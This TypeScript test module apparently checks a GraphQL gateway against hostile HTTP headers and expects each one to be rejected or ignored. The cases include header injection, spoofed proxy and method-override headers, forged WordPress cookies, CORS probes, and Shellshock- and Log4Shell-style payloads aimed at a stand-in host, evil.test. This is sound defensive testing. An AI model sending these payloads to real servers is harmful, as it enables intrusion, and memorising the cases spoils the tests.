import { gzipSync } from 'node:zlib'
import type { Attack } from './attack.js'
import { type Head, requestOf } from './client.js'

// What the head of a request can say. What is let through reads a table from the site, so that it is seen what goes on.

const NO_REQUEST = 'BAD_REQUEST'
const TABLE = '{"query":"{ priceTypes { slug } }"}'
const BASE = ['Content-Type: application/json', 'Accept: application/graphql-response+json']

const reading = (lines: readonly string[], more: Partial<Head> = {}): Head => ({
  method: 'POST',
  headers: [...BASE, ...lines],
  body: TABLE,
  ...more,
})

type Row = readonly [name: string, send: Head, status: number, code?: string | undefined, more?: Partial<Attack>]
const read = { calls: 1 } as const
const noOrigin = { ...read, lacks: 'access-control-allow-origin' } as const

const HOSTS: Readonly<Record<string, string | null>> = {
  none: null,
  'an empty one': '',
  'one with a path': 'gateway.test/../admin',
  'one with a user': 'admin@gateway.test',
  'one with a query': 'gateway.test?x',
  'one with a space': 'gateway.test evil.test',
  'two with a comma': 'gateway.test, evil.test',
  'one with a port beyond all': 'gateway.test:99999',
  'one with a port that is none': 'gateway.test:http',
  'an address that is none': '999.999.999.999',
  'an address without end': '[::1',
  markup: '<script>alert(1)</script>',
  'a scheme': 'http://gateway.test',
  'another script': 'gäteway.test',
  '300 letters': 'a'.repeat(300),
}

const ROWS: readonly Row[] = [
  ...Object.entries(HOSTS).map(([name, host]): Row => [`Host: ${name}`, reading([], { host }), 400, NO_REQUEST]),
  ['Host: twice', reading(['Host: gateway.test']), 400, NO_REQUEST],
  ['Host: twice, differently', reading(['HOST: evil.test']), 400, NO_REQUEST],
  ['Authorization: twice', reading(['Authorization: Basic YTpi', 'authorization: Basic Yzpk']), 400, NO_REQUEST],
  ['X-API-Key: twice', reading(['X-API-Key: a', 'x-api-key: b']), 400, NO_REQUEST],
  ['Content-Type: twice', reading(['content-type: text/plain']), 400, NO_REQUEST],
  ['a header of 20 KB', reading([`X-Long: ${'x'.repeat(20_000)}`]), 431, NO_REQUEST],
  ['3,000 headers', reading(Array.from({ length: 3_000 }, (_, i) => `X-${i}: 1`)), 431, NO_REQUEST],
  ['a cookie of 20 KB', reading([`Cookie: wordpress_x=${'x'.repeat(20_000)}`]), 431, NO_REQUEST],
  ['an address of 20 KB', { path: `/graphql?query=${'x'.repeat(20_000)}` }, 431, NO_REQUEST],
  ['a line break in a header', reading(['X-A: 1\rX-B: 2']), 400, NO_REQUEST],
  ['a null byte in a header', reading(['X-A: 1\u0000']), 400, NO_REQUEST],
  ['a space in the name of a header', reading(['X A: 1']), 400, NO_REQUEST],
  ['a header without a name', reading([': 1']), 400, NO_REQUEST],
  ['a header that goes on', reading(['X-A: 1', ' and more']), 400, NO_REQUEST],
  ['an expectation nobody has', reading(['Expect: 42-cookies']), 400, NO_REQUEST],
  ['a compressed body', reading(['Content-Encoding: gzip'], { body: gzipSync(TABLE) }), 415, NO_REQUEST],

  // What is let through goes no further.
  [
    'an address of a proxy',
    reading([
      'X-Forwarded-For: 127.0.0.1',
      'X-Real-IP: 127.0.0.1',
      'Forwarded: for=127.0.0.1',
      'X-Forwarded-Host: evil.test',
      'X-Forwarded-Proto: https',
    ]),
    200,
    undefined,
    read,
  ],
  [
    'another method',
    reading(['X-HTTP-Method-Override: DELETE', 'X-HTTP-Method: DELETE', 'X-Method-Override: DELETE']),
    200,
    undefined,
    read,
  ],
  [
    'another address',
    reading(['X-Original-URL: /wp-admin', 'X-Rewrite-URL: /wp-admin', 'X-Original-Host: evil.test']),
    200,
    undefined,
    read,
  ],
  ['cookies', reading(['Cookie: wordpress_logged_in_x=admin; a=b', 'X-WP-Nonce: 0123456789']), 200, undefined, read],
  [
    'other credentials',
    reading(['Proxy-Authorization: Basic YTpi', 'X-Auth-Token: x', 'X-Api-Token: x', 'X-CSRF-Token: x']),
    200,
    undefined,
    read,
  ],
  [
    'conditions',
    reading(['If-None-Match: *', 'If-Modified-Since: Sat, 01 Jan 2050 00:00:00 GMT', 'Range: bytes=0-1', 'Cache-Control: no-cache']),
    200,
    undefined,
    read,
  ],
  [
    'hops',
    reading(['Keep-Alive: timeout=9999', 'TE: trailers', 'Trailer: X-A', 'Via: 1.1 evil.test', 'Max-Forwards: 0']),
    200,
    undefined,
    read,
  ],
  ['an upgrade', reading(['Upgrade: h2c', 'HTTP2-Settings: AAAA']), 200, undefined, read],
  ['an agent', reading(['User-Agent: () { :;}; /bin/true', 'From: root@localhost', 'Referer: https://evil.test/']), 200, undefined, read],
  [
    'what a client calls itself',
    reading([`Apollographql-Client-Name: \${jndi:ldap://evil.test/a}`, 'X-Request-Id-Of-Mine: 1']),
    200,
    undefined,
    read,
  ],

  // Pages of strangers.
  ['Origin: a stranger', reading(['Origin: https://evil.test']), 200, undefined, noOrigin],
  ['Origin: nobody', reading(['Origin: null']), 200, undefined, noOrigin],
  ['Origin: the gateway itself', reading(['Origin: http://gateway.test']), 200, undefined, noOrigin],
  [
    'a question whether a stranger may',
    {
      method: 'OPTIONS',
      headers: [
        'Origin: https://evil.test',
        'Access-Control-Request-Method: POST',
        'Access-Control-Request-Headers: content-type, authorization',
      ],
    },
    204,
    undefined,
    { lacks: 'access-control-allow-origin' },
  ],
  [
    'a question whether nobody may',
    { method: 'OPTIONS', headers: ['Origin: null', 'Access-Control-Request-Method: POST'] },
    204,
    undefined,
    { lacks: 'access-control-allow-origin' },
  ],
]

export const HEADERS: readonly Attack[] = ROWS.map(([name, send, status, code, more]) => ({
  name,
  send: requestOf(send),
  status,
  ...(code !== undefined && { code }),
  ...more,
}))
